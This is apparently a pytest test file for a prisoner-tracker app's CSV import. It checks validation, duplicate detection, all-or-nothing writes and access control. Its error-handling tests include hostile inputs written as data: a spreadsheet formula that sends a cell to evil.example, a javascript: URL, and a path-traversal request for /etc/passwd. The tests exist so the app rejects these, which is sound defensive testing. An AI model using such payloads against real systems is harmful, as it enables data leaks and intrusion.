import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import select

from tracker.accounts.models import Role
from tracker.extensions import db
from tracker.prisoners.models import EventKind, Prisoner

D = EventKind.DETENTION
HEADER = "id,name_en,name_be,birth_date,region,articles,detention_place,sources,detained_on,name_withheld\n"


def upload(client, text: str | bytes, filename="list.csv"):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return client.post("/prisoners/import", data={"csv_file": (io.BytesIO(data), filename)})


def review_url(response) -> str:
    assert response.status_code == 303, response.get_data(as_text=True)
    return response.headers["Location"]


def fingerprint(html: str) -> str:
    return re.search(r'name="fingerprint" type="hidden" value="([0-9a-f]+)"', html).group(1)


def apply(client, url: str, html: str, **extra):
    return client.post(f"{url}/apply", data={"fingerprint": fingerprint(html), **extra})


def names(app) -> list[str]:
    with app.app_context():
        return sorted(db.session.scalars(select(Prisoner.name_en)))


def test_only_editors_can_import(client, auth):
    assert client.get("/prisoners/import").status_code == 302
    auth.login(Role.ACTIVIST)
    assert client.get("/prisoners/import").status_code == 403


def test_dry_run_reports_new_rows_and_changes_then_apply_writes_them(app, client, auth, make_prisoner):
    existing = make_prisoner("Ihar Losik", region="minsk", articles=["342"], timeline=[(D, date(2020, 6, 25))])
    auth.login(Role.EDITOR)
    csv_text = HEADER + (
        ",Maria Kalesnikava,Марыя Калеснікава,24.04.1982,minsk-city,342; 361-1,Gomel colony 4,https://example.org/mk,2020-09-07,no\n"
        f"{existing},,,,,342 130,Colony 3,,2020-06-25,\n"
    )  # fmt: skip
    url = review_url(upload(client, csv_text))
    html = client.get(url).get_data(as_text=True)
    assert "1 to add, 1 to update, 0 errors" in html
    assert "update record" in html and "130" in html and "Colony 3" in html
    assert names(app) == ["Ihar Losik"]  # the dry run wrote nothing
    response = apply(client, url, html)
    assert response.status_code == 303
    with app.app_context():
        maria = db.session.scalar(select(Prisoner).where(Prisoner.name_en == "Maria Kalesnikava"))
        assert maria.birth_date == date(1982, 4, 24) and maria.article_codes == ["342", "361-1"]
        assert [(e.kind, e.occurred_on) for e in maria.timeline] == [(D, date(2020, 9, 7))]
        assert [s.url for s in maria.sources] == ["https://example.org/mk"]
        losik = db.session.get(Prisoner, existing)
        assert losik.article_codes == ["130", "342"] and losik.detention_place == "Colony 3"
        assert losik.region.value == "minsk" and len(losik.timeline) == 1  # empty cells change nothing
    assert client.get(url).status_code == 404  # the upload is gone once applied


def test_errors_are_reported_by_row_and_column_and_block_apply(app, client, auth):
    auth.login(Role.EDITOR)
    csv_text = HEADER + (
        ",Good Person,,1990-01-01,brest,,,,,\n"
        ",Bad Date,,1990-13-45,brest,,,,,\n"
        ",Bad Region,,,atlantis,,,,,\n"
        ",Bad Article,,,,drop table,,,,\n"
        ",Bad Source,,,,,,javascript:alert(1),,\n"
        ",Evil,,,,,=HYPERLINK(\"https://evil.example?\"&A1),,,\n"
        ",,,,,,,,,\n"
        "999,Nobody,,,,,,,,\n"
        ",No Flag,,,,,,,,maybe\n"
        ",Too early,,2000-01-01,,,,,1999-05-05,\n"
    )  # fmt: skip
    url = review_url(upload(client, csv_text))
    html = client.get(url).get_data(as_text=True)
    expected = [
        ("3", "birth_date"), ("4", "region"), ("5", "articles"), ("6", "sources"), ("7", "detention_place"),
        ("9", "id"), ("10", "name_withheld"), ("11", "detained_on"),
    ]  # fmt: skip
    for line, column in expected:
        assert re.search(rf"<td>{line}</td><td>{column}</td>", html), (line, column)
    assert "spreadsheet formula" in html
    assert "Apply: write all rows" not in html
    response = apply(client, url, html.replace("</form>", '<input name="fingerprint" type="hidden" value="0">', 1))
    assert response.status_code == 409
    assert names(app) == []  # the good row was not written either


def test_a_source_address_too_long_for_a_record_is_an_error_in_the_dry_run(app, client, auth):
    auth.login(Role.EDITOR)
    too_long = "https://example.org/" + "a" * 990
    url = review_url(upload(client, HEADER + f",Long Source,,1990-01-01,brest,,,https://example.org/ok {too_long},,\n"))
    html = client.get(url).get_data(as_text=True)
    assert re.search(r"<td>2</td><td>sources</td><td>“Sources” — at most 1000 characters; it has \d+.</td>", html)
    assert "Apply: write all rows" not in html
    assert names(app) == []


def test_apply_is_all_or_nothing_when_a_row_fails_while_writing(app, client, auth, monkeypatch):
    from tracker.prisoners import services as prisoner_services

    auth.login(Role.EDITOR)
    url = review_url(upload(client, HEADER + ",First,,,,,,,,\n,Second,,,,,,,,\n"))
    html = client.get(url).get_data(as_text=True)
    real_save = prisoner_services.save_prisoner
    calls = []

    def failing_save(prisoner, **kwargs):
        calls.append(kwargs.get("name_en"))
        if len(calls) == 2:
            raise prisoner_services.TimelineError("disk on fire")
        return real_save(prisoner, **kwargs)

    monkeypatch.setattr(prisoner_services, "save_prisoner", failing_save)
    response = apply(client, url, html)
    assert response.status_code == 409 and "nothing was written" in response.get_data(as_text=True)
    assert calls == ["First", "Second"]
    assert names(app) == []


def test_cross_script_duplicate_with_same_birth_date_needs_confirmation(app, client, auth, make_prisoner):
    make_prisoner("Vitold Ashurok", birth_date=date(1970, 1, 1), timeline=[(D, date(2020, 9, 18))])
    make_prisoner("Vitold Ashurok Junior", birth_date=date(1999, 1, 1))
    auth.login(Role.EDITOR)
    csv_text = (
        "name_be,name_ru,birth_date\nАшурак Вітольд,,1970-01-01\n,Витольд Ашурок,1970-01-01\n,Ihar Other,1970-01-01\n"
    )
    url = review_url(upload(client, csv_text))
    html = client.get(url).get_data(as_text=True)
    assert "2 likely duplicates" in html
    assert "record 1 (Vitold Ashurok)" in html and "record 2" not in html
    assert "line 2 of this file" in html  # the two spellings in the file are the same person too
    refused = apply(client, url, html)
    assert refused.status_code == 409 and "confirm they are different people" in refused.get_data(as_text=True)
    assert len(names(app)) == 2
    assert apply(client, url, html, create_duplicates="y").status_code == 303
    assert len(names(app)) == 5


def test_apply_refuses_when_records_changed_since_the_report(app, client, auth, make_prisoner):
    prisoner_id = make_prisoner("Ihar Losik")
    auth.login(Role.EDITOR)
    url = review_url(upload(client, f"id,name_en,birth_date\n{prisoner_id},Ihar Losik,1992-11-30\n"))
    html = client.get(url).get_data(as_text=True)
    with app.app_context():
        db.session.get(Prisoner, prisoner_id).birth_date = date(1992, 11, 29)
        db.session.commit()
    response = apply(client, url, html)
    assert response.status_code == 409 and "changed since you read" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Prisoner, prisoner_id).birth_date == date(1992, 11, 29)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        ("name_en,birth_date\nЛосік,1990-01-01\n".encode("cp1251"), "not UTF-8"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "not a CSV text file"),
        ("name_en\nSomeone\n", "Missing required columns: birth_date"),
        ("birth_date,region\n1990-01-01,brest\n", "at least one name column"),
        ("name_en,birth_date,nmae_ru\nA,,\n", "Unknown columns: nmae_ru"),
        ('name_en,birth_date\n"unterminated,1990-01-01\n', "not valid CSV"),
        ("name_en,birth_date\n" + "x,\n" * 6000, "more than 5000 rows"),
    ],
)
def test_bad_files_get_a_clear_message(client, auth, content, message):
    auth.login(Role.EDITOR)
    response = upload(client, content)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)


def test_files_over_the_size_limit_are_refused(app):
    from tracker.imports.services import ImportFileError, read_csv

    # Checked on the service: Werkzeug's test client leaks the temporary file it builds for a large upload.
    with app.test_request_context(), pytest.raises(ImportFileError, match="larger than 2 MB"):
        read_csv(b"name_en,birth_date\n" + b"x" * (3 * 1024 * 1024) + b",\n")


def test_semicolon_csv_and_exported_apostrophes_are_read(app, client, auth):
    auth.login(Role.EDITOR)
    url = review_url(upload(client, "\ufeffname_en;birth_date;sentence\n'=Not a formula;;'+2 years\n"))
    html = client.get(url).get_data(as_text=True)
    assert "1 to add" in html and "0 errors" in html
    assert apply(client, url, html).status_code == 303
    with app.app_context():
        prisoner = db.session.scalar(select(Prisoner))
        assert (prisoner.name_en, prisoner.sentence) == ("=Not a formula", "+2 years")


def test_another_editor_cannot_open_or_apply_someone_elses_upload(client, auth):
    auth.login(Role.EDITOR)
    url = review_url(upload(client, "name_en,birth_date\nA,\n"))
    auth.logout()
    auth.login(Role.EDITOR)
    assert client.get(url).status_code == 404
    assert client.post(f"{url}/apply", data={"fingerprint": "x"}).status_code == 404
    assert client.get("/prisoners/import/..%2F..%2Fetc%2Fpasswd").status_code == 404


def test_saving_a_record_that_keeps_its_articles_does_not_fail(app, make_prisoner):
    from tracker.prisoners.services import save_prisoner

    prisoner_id = make_prisoner("Kept Articles", articles=["342", "130"])
    with app.app_context():
        prisoner = save_prisoner(db.session.get(Prisoner, prisoner_id), articles=["342", "361-1"], sources=[])
        db.session.commit()
        assert prisoner.article_codes == ["342", "361-1"]


def test_a_file_holding_only_a_byte_order_mark_gets_a_clear_message(client, auth):
    auth.login(Role.EDITOR)
    response = upload(client, b"\xef\xbb\xbf")
    assert response.status_code == 400
    assert "The file is empty." in response.get_data(as_text=True)


def test_an_import_cannot_name_a_person_not_named(app, client, auth, make_prisoner):
    withheld = make_prisoner("Withheld Person", name_withheld=True)
    auth.login(Role.EDITOR)
    response = upload(client, HEADER + f"{withheld},,,,,,,,,no\n")
    page = client.get(review_url(response)).get_data(as_text=True)
    assert "cannot make a record more public" in page
    with app.app_context():
        assert db.session.get(Prisoner, withheld).name_withheld


def test_translation_columns_are_imported_and_exported_again(app, client, auth):
    auth.login(Role.EDITOR)
    csv_text = (
        "name_en,birth_date,sentence,sentence_be,biography_uk,detention_place,detention_place_ru\n"
        "Maria Kalesnikava,1982-04-24,11 years,11 гадоў,Флейтистка з Мінська.,Penal colony No. 4 Gomel,"
        "Исправительная колония № 4 Гомель\n"
    )
    url = review_url(upload(client, csv_text))
    html = client.get(url).get_data(as_text=True)
    assert "Maria Kalesnikava" in html
    assert apply(client, url, html).status_code == 303
    with app.app_context():
        maria = db.session.scalar(select(Prisoner).where(Prisoner.name_en == "Maria Kalesnikava"))
        assert (maria.sentence, maria.translation("sentence", "be")) == ("11 years", "11 гадоў")
        assert maria.translation("biography", "uk") == "Флейтистка з Мінська."
        assert maria.place.name == "Penal colony No. 4 Gomel"
        assert maria.place.translation("name", "ru") == "Исправительная колония № 4 Гомель"
    exported = client.get("/api/v1/export/prisoners.csv").get_data(as_text=True).lstrip("\ufeff").splitlines()
    header = exported[0].split(",")
    row = dict(zip(header, next(csv.reader(exported[1:])), strict=True))
    assert row["sentence"] == "11 years" and row["sentence_be"] == "11 гадоў"
    assert row["detention_place_ru"] == "Исправительная колония № 4 Гомель"
    assert row["biography_uk"] == "Флейтистка з Мінська."
    # A row that leaves a translation column out changes nothing there; an empty cell never clears a place's name.
    url = review_url(upload(client, f"id,name_en,birth_date,detention_place_ru\n{maria_id(app)},,,\n"))
    assert apply(client, url, client.get(url).get_data(as_text=True)).status_code == 303
    with app.app_context():
        maria = db.session.scalar(select(Prisoner).where(Prisoner.name_en == "Maria Kalesnikava"))
        assert maria.place.translation("name", "ru") == "Исправительная колония № 4 Гомель"
        assert maria.translation("sentence", "be") == "11 гадоў"


def maria_id(app) -> int:
    with app.app_context():
        return db.session.scalar(select(Prisoner.id).where(Prisoner.name_en == "Maria Kalesnikava"))
